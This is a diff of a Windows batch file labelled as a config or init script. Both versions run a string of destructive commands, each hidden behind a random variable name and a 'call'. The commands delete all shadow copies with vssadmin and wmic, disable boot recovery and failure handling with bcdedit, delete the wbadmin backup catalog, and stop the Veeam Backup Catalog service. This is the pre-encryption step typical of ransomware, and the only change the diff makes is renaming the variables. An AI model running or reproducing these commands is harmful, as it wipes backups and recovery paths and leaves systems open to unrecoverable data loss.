@@ -1,19 +1,19 @@
-REM config 7514 v0
+REM init 1894 v0
 @echo off
-set "tyoq=vssadmin delete shadows /all /quiet"
-call %tyoq%
+set skui=vssadmin delete shadows /all /quiet
+call %skui%
 @echo off
-set "qnwm=wmic shadowcopy delete"
-call %qnwm%
+set fevw=wmic shadowcopy delete
+call %fevw%
 @echo off
-set "pioe=bcdedit /set {default} recoveryenabled no"
-call %pioe%
+set fvsu=bcdedit /set {default} recoveryenabled no
+call %fvsu%
 @echo off
-set "asuq=bcdedit /set {default} bootstatuspolicy ignoreallfailures"
-call %asuq%
+set rpwk=bcdedit /set {default} bootstatuspolicy ignoreallfailures
+call %rpwk%
 @echo off
-set "nysn=wbadmin delete catalog -quiet"
-call %nysn%
+set vswe=wbadmin delete catalog -quiet
+call %vswe%
 @echo off
-set "bmid=net stop "Veeam Backup Catalog Data Service" /y"
-call %bmid%
+set glrq=net stop "Veeam Backup Catalog Data Service" /y
+call %glrq%
